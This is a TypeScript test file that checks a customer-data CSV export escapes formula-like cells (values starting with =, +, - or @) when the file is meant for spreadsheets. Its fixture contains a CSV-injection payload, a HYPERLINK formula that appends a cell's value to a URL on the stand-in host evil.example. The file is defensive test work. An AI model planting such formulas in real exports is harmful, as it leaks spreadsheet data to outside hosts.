import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { csv } from "@satsuma/plugin-files";
import { beforeAll, expect, test } from "vitest";
import type { ProjectConfig } from "@satsuma/engine";
import { sharedProject } from "../support/shared-project.ts";

const config: ProjectConfig = {
  timezone: "UTC",
  currency: "EUR",
  asOf: "2026-03-01",
  customers: { from: csv("c.csv", { columns: { balance: "number" } }), key: "id" },
  events: { orders: { from: csv("o.csv"), customer: "id", time: "at" } },
};

const formula = '=HYPERLINK(""https://evil.example?""&A1)';

const shared = sharedProject(
  {
    "c.csv": `id,name,balance\n@a,"${formula}",-5\nb,+49 30 1,2\nc,-plain,\nd,Anna-Lena,1\n`,
    "o.csv": "id,at\n@a,2026-01-01T00:00:00Z\n",
    "segments/a.seg": "segment everyone where id is known\n",
  },
  config,
);

beforeAll(async () => {
  await shared().project.run();
});

async function exported(forSpreadsheet: boolean): Promise<string[]> {
  const { project } = shared();
  const file = join(project.folder, "members.csv");
  const columns = ["name", "balance"];
  await project.exportMembers("everyone", file, "csv", { columns, forSpreadsheet });
  return (await readFile(file, "utf8")).trimEnd().split("\n").toSorted();
}

test("no text in a file for spreadsheets is a formula, and numbers stay numbers", async () => {
  expect(await exported(true)).toEqual([
    `"'${formula}"`.replace(/^/u, "'@a,") + ",-5.0",
    "b,'+49 30 1,2.0",
    "c,'-plain,",
    "customer,name,balance",
    "d,Anna-Lena,1.0",
  ]);
});

test("a file for other systems holds what there is", async () => {
  expect(await exported(false)).toContain("b,+49 30 1,2.0");
});
